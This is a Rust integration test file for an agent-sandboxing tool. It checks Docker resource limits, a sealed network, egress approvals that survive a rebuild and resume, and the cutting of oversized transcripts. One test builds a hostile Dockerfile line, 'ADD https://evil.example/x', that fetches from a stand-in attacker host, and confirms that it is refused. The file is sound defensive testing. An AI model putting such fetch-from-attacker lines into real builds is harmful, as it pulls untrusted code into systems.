@@ -1,0 +1,251 @@
+//! Limits and robustness on the real engine: container limits as docker
+//! sees them, approvals that survive a capability rebuild and a resume, an
+//! agent's Dockerfile refused or built without network, and a transcript
+//! too large to keep.
+
+mod support;
+
+use bot_bottle::supervise::proposal::Request;
+use bot_bottle::supervise::queue::Queue;
+use serde_json::Value;
+use support::{Env, docker_ok, docker_or_skip, leftovers};
+
+fn inspect(container: &str, format: &str) -> String {
+    docker_ok(&["inspect", "--format", format, container])
+}
+
+#[test]
+fn limits_and_the_sealed_network_are_what_docker_runs() {
+    if !docker_or_skip("limits_and_the_sealed_network_are_what_docker_runs") {
+        return;
+    }
+    let env = Env::new();
+    env.write(
+        "proj/bot-bottle.json",
+        r#"{"bottles": {"small": {"extends": "default",
+              "limits": {"memory": "512m", "pids": 300, "cpus": 1}}},
+            "agents": {"small": {"provider": "shell", "bottle": "small"}}}"#,
+    );
+    let (code, preflight, err) = env.run(&["start", "small", "--dry-run"]);
+    assert_eq!(code, 0, "{err}");
+    assert!(
+        preflight.contains("agent 512m memory, 300 processes, 1 CPU"),
+        "{preflight}"
+    );
+    let slug = env.start_detached(&["small"]);
+    let limits = "{{.HostConfig.Memory}} {{.HostConfig.MemorySwap}} {{.HostConfig.PidsLimit}} {{.HostConfig.NanoCpus}}";
+    let container = |role: &str| format!("bot-bottle-{slug}-{role}");
+    assert_eq!(
+        inspect(&container("agent"), limits),
+        format!("{m} {m} 300 1000000000", m = 512u64 << 20)
+    );
+    assert_eq!(
+        inspect(&container("egress"), limits),
+        format!("{m} {m} 256 1000000000", m = 256u64 << 20)
+    );
+    assert_eq!(
+        inspect(&container("supervise"), limits),
+        format!("{m} {m} 128 500000000", m = 128u64 << 20)
+    );
+    for role in ["egress", "supervise"] {
+        assert_eq!(
+            inspect(&container(role), "{{.HostConfig.ReadonlyRootfs}}"),
+            "true"
+        );
+    }
+    for role in ["agent", "egress", "supervise"] {
+        assert_eq!(
+            inspect(
+                &container(role),
+                "{{.HostConfig.LogConfig.Type}} {{index .HostConfig.LogConfig.Config \"max-size\"}}"
+            ),
+            "json-file 1m",
+            "{role}: what it prints cannot fill the host's disk"
+        );
+    }
+    let network = format!("bot-bottle-{slug}_internal");
+    let options: Value = serde_json::from_str(&docker_ok(&[
+        "network",
+        "inspect",
+        "--format",
+        "{{json .Options}}",
+        &network,
+    ]))
+    .unwrap();
+    assert_eq!(options["com.docker.network.bridge.inhibit_ipv4"], "true");
+    env.run(&["stop", &slug]);
+    assert_eq!(leftovers(&slug), (0, 0));
+}
+
+/// A proposal as the supervise sidecar would queue it (or a compromised
+/// one: the host checks again).
+fn queue(env: &Env, slug: &str, request: Request) -> String {
+    let dir = env.home().join("state").join(slug).join("supervise");
+    Queue::new(&dir)
+        .submit(slug, request, "for the test".into())
+        .unwrap()
+        .id
+}
+
+fn proxy_status(env: &Env, slug: &str, url: &str) -> String {
+    env.sh(
+        slug,
+        &format!("curl -s -m 10 -o /dev/null -w '%{{http_code}}' {url}; true"),
+    )
+    .1
+}
+
+#[test]
+fn approvals_survive_a_capability_rebuild_and_resume() {
+    if !docker_or_skip("approvals_survive_a_capability_rebuild_and_resume") {
+        return;
+    }
+    let env = Env::new();
+    let slug = env.start_detached(&["shell"]);
+    let state = env.home().join("state").join(&slug);
+
+    // No route to these hosts yet: egress refuses them outright.
+    assert_eq!(proxy_status(&env, &slug, "http://first.test/"), "403");
+
+    let id = queue(
+        &env,
+        &slug,
+        Request::EgressBlock {
+            host: "first.test".into(),
+            path_allowlist: vec!["/v1/".into()],
+            auth: None,
+        },
+    );
+    let (code, _, err) = env.run(&["approve", &id]);
+    assert_eq!(code, 0, "{err}");
+    let credentialed = queue(
+        &env,
+        &slug,
+        Request::EgressBlock {
+            host: "second.test".into(),
+            path_allowlist: vec![],
+            auth: Some(bot_bottle::supervise::proposal::AuthRequest {
+                scheme: "bearer".into(),
+                token_ref: None,
+            }),
+        },
+    );
+    let mut approve = env.cmd(&["approve", &credentialed, "--token-env", "BB_TEST_TOKEN"]);
+    approve.env("BB_TEST_TOKEN", "robustness-token-value");
+    let out = approve.output().unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    // Allowed now: the request goes on, to a name nothing answers (502).
+    assert_eq!(proxy_status(&env, &slug, "http://first.test/v1/x"), "502");
+
+    // A hostile Dockerfile queued behind the sidecar's back is refused by
+    // the host too, and changes nothing.
+    let hostile = queue(
+        &env,
+        &slug,
+        Request::CapabilityBlock {
+            dockerfile: "FROM debian:bookworm-slim\nADD https://evil.example/x /x\n".into(),
+        },
+    );
+    let (code, _, err) = env.run(&["approve", &hostile]);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains("ADD is not allowed"), "{err}");
+    assert!(!state.join("Dockerfile").exists());
+
+    // A fine one: the bottle goes down, kept, to be rebuilt.
+    let current = std::fs::read_to_string(state.join("agent/Dockerfile")).unwrap();
+    let rebuilt = queue(
+        &env,
+        &slug,
+        Request::CapabilityBlock {
+            dockerfile: format!("{current}RUN touch /tmp/rebuilt-marker\n"),
+        },
+    );
+    let (code, out, err) = env.run(&["approve", &rebuilt]);
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(out.trim(), format!("bot-bottle resume {slug}"));
+    assert_eq!(leftovers(&slug), (0, 0));
+    assert!(
+        !state.join("egress/tokens.json").exists(),
+        "no token is kept while the bottle is down"
+    );
+
+    let mut resume = env.cmd(&["resume", &slug, "--yes", "--detach"]);
+    resume.env("BB_TEST_TOKEN", "robustness-token-value");
+    let out = resume.output().unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{err}");
+    assert!(
+        err.contains("an approved capability-block: no network, no build context"),
+        "{err}"
+    );
+    assert!(
+        err.contains("first.test /v1/"),
+        "the preflight shows the kept routes: {err}"
+    );
+    assert_eq!(env.sh(&slug, "test -e /tmp/rebuilt-marker").0, 0, "rebuilt");
+
+    // The approvals survived, the credential too (from the variable the
+    // operator named, read again at resume).
+    assert_eq!(proxy_status(&env, &slug, "http://first.test/v1/x"), "502");
+    assert_eq!(proxy_status(&env, &slug, "http://first.test/other"), "403");
+    let routes = std::fs::read_to_string(state.join("egress/routes.json")).unwrap();
+    assert!(routes.contains("second.test"), "{routes}");
+    let tokens = std::fs::read_to_string(state.join("egress/tokens.json")).unwrap();
+    assert!(tokens.contains("robustness-token-value"), "{tokens}");
+    env.run(&["stop", &slug]);
+    assert_eq!(leftovers(&slug), (0, 0));
+}
+
+#[test]
+fn an_oversized_transcript_is_cut_and_reported() {
+    if !docker_or_skip("an_oversized_transcript_is_cut_and_reported") {
+        return;
+    }
+    let env = Env::new();
+    // A stand-in `claude` that fills its transcript folder past the limit,
+    // then fails, so the bottle is kept and its transcript snapshotted.
+    env.write(
+        "proj/image/claude",
+        "#!/bin/sh\nmkdir -p \"$HOME/.claude\"\nhead -c 300M /dev/zero > \"$HOME/.claude/huge\"\nexit 1\n",
+    );
+    let default = std::fs::read_to_string(
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/manifest/defaults/Dockerfile"),
+    )
+    .unwrap();
+    env.write(
+        "proj/image/Dockerfile",
+        &format!(
+            "{default}USER root\nCOPY claude /usr/local/bin/claude\nRUN chmod 755 /usr/local/bin/claude\nUSER agent\n"
+        ),
+    );
+    env.write(
+        "proj/bot-bottle.json",
+        r#"{"bottles": {"fake": {"dockerfile": "image/Dockerfile"}},
+            "agents": {"fake": {"provider": "claude", "bottle": "fake"}}}"#,
+    );
+    let (code, _, err) = env.run(&["start", "fake", "--yes"]);
+    assert_eq!(code, 1, "{err}");
+    assert!(
+        err.contains("is larger than 256 MiB: cut off, not kept"),
+        "{err}"
+    );
+    let hint = err
+        .lines()
+        .find(|l| l.starts_with("bot-bottle resume "))
+        .unwrap_or_else(|| panic!("no resume hint: {err}"));
+    let slug = hint.trim_start_matches("bot-bottle resume ").trim();
+    env.track(slug);
+    let state = env.home().join("state").join(slug);
+    assert!(!state.join("transcript.tar").exists());
+    let partial: Vec<_> = std::fs::read_dir(&state)
+        .unwrap()
+        .filter_map(|e| e.ok())
+        .filter(|e| e.metadata().map(|m| m.len() > 1 << 20).unwrap_or(false))
+        .collect();
+    assert!(partial.is_empty(), "nothing large is left in the state");
+    assert_eq!(leftovers(slug), (0, 0));
+}
